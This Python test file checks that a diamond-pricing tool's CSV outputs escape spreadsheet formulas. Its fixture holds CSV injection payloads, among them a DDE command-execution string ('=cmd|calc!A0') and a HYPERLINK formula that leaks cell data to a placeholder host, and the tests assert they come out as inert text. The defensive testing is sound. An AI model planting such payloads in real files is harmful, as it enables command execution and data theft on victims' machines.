"""CSV files written for people are safe to open in a spreadsheet (no CSV injection): priced
files and quarantined rows from hostile data files."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from training.batch import price_file
from training.cli import main
from training.registry import Registry
from training.spreadsheet import as_text
from training.storage import open_storage

STONE = "6.44,6.47,3.97"
HOSTILE = (
    "carat,cut,color,clarity,depth,table,x,y,z,price,=remark\r\n"
    f'1.01,"=HYPERLINK(""http://x""&A1)",E,VS1,61.5,57,{STONE},5000,a\r\n'
    f"1.01,=cmd|calc!A0,E,VS1,61.5,57,{STONE},5000,b\r\n"
    f"1.01,@SUM(1),E,VS1,61.5,57,{STONE},5000,c\r\n"
    f"1.01,+1,E,VS1,61.5,57,{STONE},5000,d\r\n"
    f"1.01,\t=1+2,E,VS1,61.5,57,{STONE},5000,e\r\n"
    f'1.01,"\r=1+2",E,VS1,61.5,57,{STONE},5000,f\r\n'
    f"1.01,Ideal,E,VS1,61.5,57,{STONE},-1,-1\r\n"
    f"1.01,Ideal,E,VS1,61.5,57,{STONE},,=1+2\r\n"
    f"-1,Ideal,E,VS1,61.5,57,{STONE},5000,-2+3\r\n"
).encode()
"""A cut of each formula kind, a hostile header and note; a price and a carat of -1. Every row
is rejected for training (the last two valid stones have no price), two are priced."""
CUTS_SHOWN = [
    '\'=HYPERLINK("http://x"&A1)',
    "'=cmd|calc!A0",
    "'@SUM(1)",
    "'+1",
    "'\t=1+2",
    "'\r=1+2",
    "Ideal",
    "Ideal",
    "Ideal",
]


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tIdeal", "'\tIdeal"),
        ("\r=1", "'\r=1"),
        ("-1", "-1"),
        ("-0.5", "-0.5"),
        ("-1e3", "-1e3"),
        ("-inf", "'-inf"),
        ("Ideal", "Ideal"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.0, -1.0),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_text(cell: object, shown: object) -> None:
    assert as_text(cell) == shown


def inert_rows(data: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file, after checking that no cell (header included) would run as a
    formula in a spreadsheet: a cell starting with a formula character is a plain number."""
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    live = [cell for row in rows for cell in row if as_text(cell) != cell]
    assert live == []
    header, *lines = rows
    return [dict(zip(header, line, strict=True)) for line in lines]


def test_a_priced_file_shows_hostile_cells_as_text(trained_models: Path, tmp_path: Path) -> None:
    target = tmp_path / "priced.csv"
    counts = price_file(Registry(open_storage(trained_models.as_uri())), HOSTILE, target)
    assert (counts["rows"], counts["priced"]) == (9, 2)

    rows = inert_rows(target.read_bytes())
    assert [row["cut"] for row in rows] == CUTS_SHOWN
    assert [row["'=remark"] for row in rows][-3:] == ["-1", "'=1+2", "'-2+3"]
    assert rows[0]["error"].startswith("cut: unknown cut '=HYPERLINK(")
    assert rows[-1]["carat"] == "-1"
    assert rows[-1]["error"] == "carat: must be greater than 0, got -1"
    assert all(float(row["price"]) > 0 for row in rows[6:8])


def test_quarantined_rows_show_hostile_cells_as_text(tmp_path: Path, roots: dict) -> None:
    source = tmp_path / "hostile.csv"
    source.write_bytes(HOSTILE)
    code = main(["train", str(source), "--data-root", roots["data"]])
    assert code == 2

    rows = inert_rows(open_storage(roots["data"]).read("quarantine/hostile.rejected.csv"))
    assert [row["cut"] for row in rows] == CUTS_SHOWN
    assert [row["price"] for row in rows][-3:] == ["-1", "", "5000"]
    assert [row["'=remark"] for row in rows][-3:] == ["-1", "'=1+2", "'-2+3"]
    assert source.read_bytes() == HOSTILE
